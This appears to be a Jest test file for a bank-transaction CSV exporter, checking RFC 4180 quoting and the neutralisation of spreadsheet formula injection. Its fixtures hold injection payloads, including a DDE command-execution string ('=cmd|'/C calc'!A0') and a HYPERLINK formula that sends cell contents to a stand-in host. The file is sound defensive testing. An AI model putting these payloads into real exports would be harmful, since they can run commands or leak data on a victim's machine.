import Papa from 'papaparse';
import { aTransaction } from '../testing/transaction-fixture';
import { DEFAULT_COLUMNS } from './columns';
import { csvField, toCsv } from './csv';
import { toRows } from './transaction-rows';

describe('toCsv', () => {
  const rows = toRows([
    aTransaction({
      merchant_name: 'Joe\'s "Diner", Inc.',
      date: '2026-04-02',
      amount: 12.5,
      pending: true,
      personal_finance_category: { primary: 'FOOD_AND_DRINK' },
      notes: 'lunch, with "Sam"',
    }),
    aTransaction({
      merchant_name: null,
      name: '=HYPERLINK("x")',
      date: '2026-04-01',
      amount: -100,
      institution_name: 'Tartan Bank',
      account_name: 'Savings',
      account_mask: '1111',
      personal_finance_category: null,
    }),
  ]);

  it('writes the visible columns in their order, the rows in the given order, signed amounts Notes and Pending', () => {
    expect(toCsv(rows, DEFAULT_COLUMNS).split('\r\n')).toEqual([
      'Institution,Account,Date,Description,Amount,Category,Notes,Pending',
      'First Platypus Bank,Plaid Checking ••••0000,2026-04-02,"Joe\'s ""Diner"", Inc.",12.50,Food And Drink,"lunch, with ""Sam""",yes',
      'Tartan Bank,Savings ••••1111,2026-04-01,"\'=HYPERLINK(""x"")",-100.00,Uncategorized,,no',
      '',
    ]);
  });

  it('leaves hidden columns out and follows a changed order', () => {
    const columns = [DEFAULT_COLUMNS[4]!, DEFAULT_COLUMNS[2]!, { ...DEFAULT_COLUMNS[0]!, visible: false }];
    expect(toCsv(rows, columns).split('\r\n').slice(0, 2)).toEqual([
      'Amount,Date,Notes,Pending',
      '12.50,2026-04-02,"lunch, with ""Sam""",yes',
    ]);
  });

  it('quotes a field that holds a comma, a semicolon, a tab, a CR, an LF or a quote, doubling its quotes (RFC 4180)', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('a\tb')).toBe('"a\tb"');
    expect(csvField('a\rb')).toBe('"a\rb"');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });

  it('neutralises text starting with =, +, -, @, a tab or a CR with an apostrophe; numbers stay numbers', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+1 800')).toBe("'+1 800");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tx')).toBe('"\'\tx"');
    expect(csvField('\rx')).toBe('"\'\rx"');
    // Quotes before the character do not hide it.
    expect(csvField('"=1"')).toBe('"\'""=1"""');
    expect(csvField('-12.34', true)).toBe('-12.34');
    expect(csvField('a=b-c')).toBe('a=b-c');
  });

  it('neutralises each part after a semicolon, a tab or a line break inside the text that starts so', () => {
    expect(csvField("ZELLE FROM JOHN;=cmd|'/C calc'!A0;x")).toBe("\"ZELLE FROM JOHN;'=cmd|'/C calc'!A0;x\"");
    expect(csvField('a\t@SUM(A1)')).toBe('"a\t\'@SUM(A1)"');
    expect(csvField('a;"+1"')).toBe('"a;\'""+1"""');
    expect(csvField('a;\t=1')).toBe('"a;\'\t\'=1"');
    expect(csvField('a\r\n-1+2')).toBe('"a\r\n\'-1+2"');
    expect(csvField('a; =1')).toBe('"a; =1"');
  });

  describe('read back by a CSV parser', () => {
    const BANK_NAMES = [
      "ZELLE FROM JOHN;=cmd|'/C calc'!A0;x",
      '=HYPERLINK("http://x.test/?"&A1,"Refund")',
      '+1-800-FLOWERS',
      '-REVERSAL, fee',
      '@SUM(1+1)*cmd',
      '\tTAB LEADS;\t=1+2',
      '\rCR LEADS\n=1+2\r\n@A1',
      'PAYPAL ;"=2+5"; "ok"',
      'Plain Coffee',
    ];
    // The same, neutralised: an apostrophe wherever a spreadsheet could start a formula, the rest unchanged.
    const NEUTRALISED = [
      "ZELLE FROM JOHN;'=cmd|'/C calc'!A0;x",
      '\'=HYPERLINK("http://x.test/?"&A1,"Refund")',
      "'+1-800-FLOWERS",
      "'-REVERSAL, fee",
      "'@SUM(1+1)*cmd",
      "'\tTAB LEADS;'\t'=1+2",
      "'\rCR LEADS\n'=1+2\r\n'@A1",
      'PAYPAL ;\'"=2+5"; "ok"',
      'Plain Coffee',
    ];
    const bankRows = toRows(
      BANK_NAMES.map((name, index) =>
        aTransaction({ merchant_name: null, name, notes: name, amount: index % 2 ? -(index + 0.34) : index + 0.5 }),
      ),
    );

    /** Every text of three of these: each character the rules speak of, and plain ones. */
    const PIECES = ['=', '+', '-', '@', '\t', '\r', '\n', ';', ',', '"', 'a', ' ', '1'];
    const combinations = PIECES.flatMap((a) => PIECES.flatMap((b) => PIECES.map((c) => a + b + c)));

    /** The file as a spreadsheet with `,` as its list separator reads it: RFC 4180, one record a row. */
    function readWithCommas(csv: string): string[][] {
      const { data, errors } = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n', skipEmptyLines: true });
      expect(errors).toEqual([]);
      return data;
    }

    /**
     * The cells Excel in a `;` locale makes of the file (split at each `;` and line break, each trimmed of the quotes
     * around it) that would start a formula: those starting with =, +, -, @, a tab or a CR, but for plain numbers.
     */
    function formulasWithSemicolons(csv: string): string[] {
      const { data } = Papa.parse<string[]>(csv, { delimiter: ';', newline: '\r\n' });
      return data
        .flat()
        .flatMap((field) => field.split(/\r\n?|\n/))
        .map((field) => field.replace(/^"+|"+$/g, ''))
        .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    }

    it('with `,`: a record a row of eight fields, the texts neutralised, the amounts numbers', () => {
      const records = readWithCommas(toCsv(bankRows, DEFAULT_COLUMNS));
      expect(records).toHaveLength(BANK_NAMES.length + 1);
      expect(records.map((record) => record.length)).toEqual(records.map(() => 8));
      expect(records.slice(1).map((record) => record[3])).toEqual(NEUTRALISED);
      expect(records.slice(1).map((record) => record[6])).toEqual(NEUTRALISED);
      expect(records.slice(1).map((record) => Number(record[4]))).toEqual(
        bankRows.map((row) => row.transaction.amount),
      );
    });

    it('with `;`: no cell starts a formula, for these names and every text of three characters that matter', () => {
      expect(formulasWithSemicolons(toCsv(bankRows, DEFAULT_COLUMNS))).toEqual([]);
      const rows = toRows(combinations.map((name) => aTransaction({ merchant_name: null, name, notes: name })));
      const csv = toCsv(rows, DEFAULT_COLUMNS);
      expect(formulasWithSemicolons(csv)).toEqual([]);
      // Read with `,`, each comes back as it was but for the apostrophes put in.
      const records = readWithCommas(csv).slice(1);
      expect(records.map((record) => record.length)).toEqual(combinations.map(() => 8));
      expect(records.map((record) => record[3]!.replaceAll("'", ''))).toEqual(combinations);
    });
  });
});
